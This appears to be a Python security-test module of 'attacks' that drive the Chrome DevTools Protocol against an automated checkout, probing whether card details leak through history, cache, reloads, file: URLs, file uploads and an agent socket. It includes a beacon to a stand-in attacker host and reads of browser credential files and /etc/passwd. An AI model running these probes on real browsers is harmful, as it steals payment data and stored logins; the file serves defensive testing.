"""What stays behind: history, restored forms, files of the profile, pages that the page left."""

import os

from attacks import VALUES, attack
from support.cdp import CdpError


@attack("plain_post")
def back_after_paying(a):
    """Back to the form after it was posted: restored fields and the back-forward cache."""
    a.open()
    a.fill()
    a.pay()
    a.look("new Promise(r => setTimeout(r, 150))")
    history = a.ask(a.page.session, "Page.getNavigationHistory")
    if history:
        for entry in history["entries"]:
            a.ask(a.page.session, "Page.navigateToHistoryEntry", entryId=entry["id"])
            a.look("new Promise(r => setTimeout(r, 200))")
            a.look()
    a.look("history.back()")
    a.look("new Promise(r => setTimeout(r, 200))")
    a.look()


@attack("xhr_form", "payment_element", control=False)
def back_to_the_cached_page(a):
    """The page is left for another one after the fill and comes back from the cache with its values."""
    a.open()
    a.fill()
    a.ask(a.page.session, "Page.navigate", url=a.sites.origin("shop") + "/thanks")
    a.look("new Promise(r => setTimeout(r, 100))")
    a.look("history.back()")
    a.look("new Promise(r => setTimeout(r, 300))")
    a.look_everywhere()
    a.settle()


@attack("plain_post", "xhr_form", "payment_element", control=False)
def reload_after_filling(a):
    """Page.reload before Pay: forms are restored, posts are sent again."""
    a.open()
    a.fill()
    a.ask(a.page.session, "Page.reload", scriptToEvaluateOnLoad="setInterval(() => navigator.sendBeacon('%s/take', %s), 40)" % (a.evil, VALUES.replace("\n", " ")))
    a.look("new Promise(r => setTimeout(r, 300))")
    a.look_everywhere()


@attack("plain_post", control=False)
def reload_of_the_posted_form(a):
    """The answer to the post is reloaded: the browser posts the form again, to whoever is there now."""
    a.open()
    a.fill()
    a.pay()
    a.ask(a.page.session, "Network.enable")
    since = len(a.sites.requests)
    a.ask(a.page.session, "Page.reload")
    a.look("new Promise(r => setTimeout(r, 200))")
    if a.strength == "dom":
        del a.sites.requests[since:]


@attack("xhr_form", "payment_element", control=False)
def closed_and_opened_again(a):
    """The tab is closed during the purchase; the same address in a new one, in the same context."""
    a.open()
    a.fill()
    a.checkout.shut(a.page)
    again = a.open()
    a.look(session=again.session)
    a.settle()


@attack("plain_post", "payment_element", control=False)
def profile_by_file_urls(a):
    """The profile's folder and files through file: addresses, view-source: and chrome: pages."""
    a.open()
    a.fill()
    a.pay()
    folder = a.checkout.profile()
    for url in ("file://" + folder, "file://%s/Default/Web%%20Data" % folder, "file:///proc/self/environ", "view-source:" + a.site.url, "view-source:file://" + folder,
                "chrome://history", "chrome://settings/payments", "chrome://net-export", "chrome://net-internals", "chrome://version", "devtools://devtools/bundled/inspector.html",
                "chrome-untrusted://x", "filesystem:" + a.site.url, "about:srcdoc", "FILE:///etc/passwd", " file:///etc/passwd", "http:\\\\evil", "javascript:1"):
        a.ask(a.page.session, "Page.navigate", url=url)
        try:
            target = a.browser.call("Target.createTarget", {"url": url})["targetId"]
            session = a.browser.attach(target)
            a.look("document.documentElement.outerHTML", session)
            shown = a.look("location.href", session)
            if a.strength != "dom" and str((shown or {}).get("result", {}).get("value", "")).startswith(("file:", "chrome:", "devtools:")):
                a.see("reached " + url)
            a.browser.call("Target.closeTarget", {"targetId": target})
        except (CdpError, OSError) as error:
            a.refusals.append(str(error)[:50])


@attack("xhr_form", control=False)
def profile_by_upload(a):
    """DOM.setFileInputFiles with the profile's files, read by a script."""
    a.open()
    a.fill()
    a.pay()
    a.look("(() => { const i = document.createElement('input'); i.type = 'file'; i.id = 'up'; i.multiple = true; document.body.append(i); })()")
    handle = a.ask(a.page.session, "Runtime.evaluate", expression="document.getElementById('up')")
    folder = a.checkout.profile()
    names = [os.path.join(top, name) for top, _, files in os.walk(folder) for name in files if name in ("History", "Web Data", "Login Data", "Preferences", "Current Session")]
    if handle and handle.get("result", {}).get("objectId"):
        for name in names[:8] + ["/etc/hostname"]:
            a.ask(a.page.session, "DOM.setFileInputFiles", files=[name], objectId=handle["result"]["objectId"])
            a.look("(async () => { let all = ''; for (const f of document.getElementById('up').files) all += await f.text(); return all; })()")


@attack("xhr_form", control=False)
def downloads_into_the_profile(a):
    """Downloads are sent to the profile's and the home's folders."""
    a.open()
    for folder in (a.checkout.profile(), a.checkout.home.path):
        a.ask(a.page.session, "Page.setDownloadBehavior", behavior="allow", downloadPath=folder)
        try:
            a.browser.call("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": folder})
        except CdpError as error:
            a.refusals.append(str(error)[:60])
    a.fill()
    a.pay()
    try:
        a.browser.call("Browser.setDownloadBehavior", {"behavior": "default"})
    except CdpError:
        pass


@attack("xhr_form", "payment_element", control=False)
def context_of_the_page(a):
    """Contexts are listed, made and thrown away around the purchase; the page's own one is disposed of in the middle."""
    a.open()
    for method, params in (("Target.getBrowserContexts", {}), ("Target.createBrowserContext", {"disposeOnDetach": True})):
        try:
            found = a.browser.call(method, params)
            if "browserContextId" in found:
                a.undo.append(lambda c=found["browserContextId"]: a.browser.call("Target.disposeBrowserContext", {"browserContextId": c}))
        except CdpError as error:
            a.refusals.append(str(error)[:60])
    a.fill()
    info = [i for i in a.browser.targets() if i["targetId"] == a.page.target_id]
    a.pay()
    a.look_everywhere()


@attack("xhr_form", "payment_element", control=False)
def agent_sock_answers(a):
    """All that agent.sock says of the purchase afterwards."""
    a.open()
    a.fill()
    a.pay()
    with a.checkout.agent() as agent:
        for method, params in (("purchase.status", {"purchase": a.answer.get("purchase", "pur_x")}), ("credentials.get", {"id": a.checkout.card["id"]}), ("credentials.list", {}),
                               ("vault.status", {})):
            try:
                agent.call(method, **params)
            except Exception as error:
                a.refusals.append(str(error)[:60])
        a.see(agent.received)
